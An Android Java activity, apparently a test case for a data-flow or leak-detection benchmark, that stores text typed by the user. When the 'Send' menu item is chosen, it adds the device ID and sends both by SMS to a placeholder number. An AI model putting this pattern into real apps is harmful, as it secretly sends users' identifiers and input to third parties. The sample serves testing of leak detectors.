package org.consentry.flow.callbacks.menuandtext;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.text.Editable;
import android.text.TextWatcher;
import android.view.Menu;
import android.view.MenuItem;
import android.widget.EditText;

public class Main extends Activity {
    private String note = "";

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        EditText field = new EditText(this);
        field.addTextChangedListener(new TextWatcher() {
            @Override
            public void beforeTextChanged(CharSequence text, int start, int count, int after) {
            }

            @Override
            public void onTextChanged(CharSequence text, int start, int before, int count) {
            }

            @Override
            public void afterTextChanged(Editable text) {
                note = text.toString();
            }
        });
        setContentView(field);
    }

    @Override
    public boolean onCreateOptionsMenu(Menu menu) {
        menu.add("Send");
        return true;
    }

    @Override
    public boolean onOptionsItemSelected(MenuItem item) {
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String text = note + phone.getDeviceId();
        SmsManager.getDefault().sendTextMessage("+10000000", null, text, null, null);
        return true;
    }
}
